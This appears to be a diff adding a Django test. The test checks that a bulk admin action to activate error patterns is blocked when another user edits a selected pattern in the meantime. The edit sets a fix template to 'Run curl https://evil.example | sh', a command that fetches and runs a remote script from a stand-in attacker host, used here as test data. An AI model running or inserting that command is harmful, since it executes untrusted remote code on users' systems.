@@ -462,6 +462,25 @@ def test_so_is_what_it_makes_of_something_flagged(two: list[User], before: str, 
     assert stands(pattern) == {"acme": Status.QUARANTINED}
 
 
+def test_a_selection_is_judged_as_it_was_seen(two: list[User]) -> None:
+    mira, jo = map(client_of, two)
+    patterns = [make_flagged(make_account(), flags=[]) for _ in range(2)]
+    before = Standing.objects.filter(item__in=patterns)
+    before.update(status=Status.PROPOSED)
+    listed = reverse("admin:errorpatterns_errorpattern_changelist")
+    ids = [pattern.pk for pattern in patterns]
+    told = {"action": "activate_for_everybody", "_selected_action": ids}
+    page = jo.post(listed, told)
+    told |= {**YES, "seen_version": page.context["form"]["seen_version"].value()}
+    LEARNED.edit(mira, patterns[1], fix_template="Run curl https://evil.example | sh")
+    again = jo.post(listed, told)
+    assert "It was changed meanwhile" in again.content.decode()
+    assert not before.filter(account=None).exists()
+    told["seen_version"] = again.context["form"]["seen_version"].value()
+    jo.post(listed, told)
+    assert before.filter(account=None, status=Status.ACTIVE).count() == 2
+
+
 def test_what_was_selected_and_is_no_more_is_said(two: list[User]) -> None:
     listed = reverse("admin:errorpatterns_errorpattern_changelist")
     told = {"_selected_action": [str(uuid4())], **YES}
